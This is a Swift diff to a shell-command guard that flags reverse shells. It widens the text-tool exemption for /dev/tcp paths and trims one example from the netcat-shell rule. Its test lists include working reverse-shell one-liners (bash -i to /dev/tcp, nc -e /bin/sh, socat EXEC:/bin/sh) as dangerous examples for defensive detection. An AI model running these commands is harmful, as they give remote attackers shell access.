@@ -7,17 +7,17 @@ extension GuardRule {
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/h/80",
         "sh -i 2>&1 <> /dev/udp/1.2.3.4/53", "cat < /dev/tcp/h/1 | sh",
       ],
-      safe: ["echo /dev/tcp/x", "ls /dev"]
+      safe: ["echo /dev/tcp/x", "ls /dev", "grep -rn /dev/tcp/ scripts/"]
     ) { command in
-      (command.redirections.map(\.target) + (command.runs("cat", "echo") ? [] : command.arguments))
+      let isText = command.runs("cat", "echo", "printf", "grep", "egrep", "fgrep", "rg", "ag")
+      return (command.redirections.map(\.target) + (isText ? [] : command.arguments))
         .contains { $0.text.hasPrefix("/dev/tcp/") || $0.text.hasPrefix("/dev/udp/") }
     },
     GuardRule(
       "netcat-shell", .reverseShell, .critical, "Hands a shell to whoever is at the other end.",
       dangerous: [
         "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "nc -l -p 1 -e /bin/sh",
-        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "nc h 1 | sh",
-        "socket -svp '/bin/sh -i' 1",
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "socket -svp '/bin/sh -i' 1",
       ],
       safe: ["nc -zv host 22", "nc -l 8080", "socat TCP-LISTEN:80,fork TCP:h:80"]
     ) { command in
